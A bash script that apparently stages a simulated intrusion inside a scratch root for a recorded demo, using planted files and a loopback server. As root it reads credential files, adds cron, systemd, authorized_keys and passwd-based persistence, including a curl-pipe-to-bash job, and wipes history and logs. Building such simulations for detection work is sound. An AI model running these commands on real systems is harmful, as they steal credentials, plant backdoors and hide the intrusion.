#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Runs inside the scratch root of record_demo.sh, nowhere else. Imitates the steps of an intrusion
# that begins in a notebook: the commands and system calls are those of attacks, what they touch is
# planted, and the attempts to get out run without any privilege, so they fail.
echo "$1" > /proc/self/loginuid || exit 1
[ -d /srv/project ] && [ ! -e /etc/machine-id ] || { echo "not in the scratch root" >&2; exit 1; }

# What the steps call on the loopback: a web server with an update script, two listeners.
mkfifo -m 666 /tmp/pause
python3 -m http.server 8000 --bind 127.0.0.1 --directory /srv/www >/dev/null 2>&1 &
web=$!
python3 /opt/app/listener.py 4444 &
python3 /opt/app/listener.py 4445 &

# Steps 1 to 6 run as the notebook's user.
setpriv --reuid 1001 --regid 1001 --clear-groups --bounding-set=-all --no-new-privs \
  env HOME=/home/jovyan USER=jovyan PYTHONPATH=/opt/venv/lib bash /srv/attack_notebook.sh
kill $web

# 7. With the scratch root's own root: credentials, then ways to stay.
cat /root/.aws/credentials /root/.ssh/id_ed25519 /etc/shadow > /dev/null
grep -rE 'AKIA|BEGIN .*PRIVATE KEY' /root /opt/app
echo '* * * * * root curl -s http://127.0.0.1:8000/update.sh | bash' > /etc/cron.d/sysstat-refresh
echo '@reboot /tmp/update.sh' > /var/spool/cron/crontabs/root
echo 'nohup /tmp/update.sh >/dev/null 2>&1 &' >> /root/.bashrc
echo 'ssh-ed25519 PLANTED intruder' >> /home/ana/.ssh/authorized_keys
cat > /etc/systemd/system/telemetry.service <<'UNIT'
[Service]
ExecStart=/tmp/update.sh
[Install]
WantedBy=multi-user.target
UNIT
echo '/tmp/.cache/lib.so' > /etc/ld.so.preload
rm -f /etc/ld.so.preload
echo 'svc:x:0:0::/root:/bin/bash' >> /etc/passwd
cp /usr/bin/true /tmp/.cache/rootsh
chmod 4755 /tmp/.cache/rootsh
chmod u+s /tmp/update.sh

# 8. Traces removed.
unset HISTFILE
ln -sf /dev/null /root/.bash_history
rm -f /home/jovyan/.bash_history
truncate -s 0 /var/log/auth.log
rm -f /var/log/wtmp
shred -u -n 1 /tmp/.cache/w.tgz
touch -r /etc/hosts /etc/cron.d/sysstat-refresh
